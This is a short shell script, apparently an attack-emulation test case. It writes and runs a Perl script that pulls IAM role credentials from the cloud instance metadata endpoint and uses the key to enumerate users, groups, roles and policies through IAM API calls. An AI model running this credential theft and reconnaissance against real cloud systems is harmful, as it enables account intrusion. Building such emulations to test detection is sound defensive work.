#!/bin/sh
. /opt/case/case.sh

cat >/tmp/i.pl <<'END'
use HTTP::Tiny; my $h = HTTP::Tiny->new(timeout => 5);
my $k = $h->get("http://169.254.169.254/latest/meta-data/iam/security-credentials/web-credentials")->{content};
my ($id) = $k =~ /AccessKeyId": "([^"]+)/ or die;
for my $a (qw(ListUsers ListGroups ListRoles ListAttachedUserPolicies GetAccountAuthorizationDetails SimulatePrincipalPolicy)) {
    my $r = $h->get("http://iam.amazonaws.com/?Action=$a&Version=2010-05-08", { headers => { Authorization => "AWS4-HMAC-SHA256 Credential=$id/20261130/us-east-1/iam/aws4_request" } });
    die $a unless $r->{success};
}
END
perl /tmp/i.pl
took_place
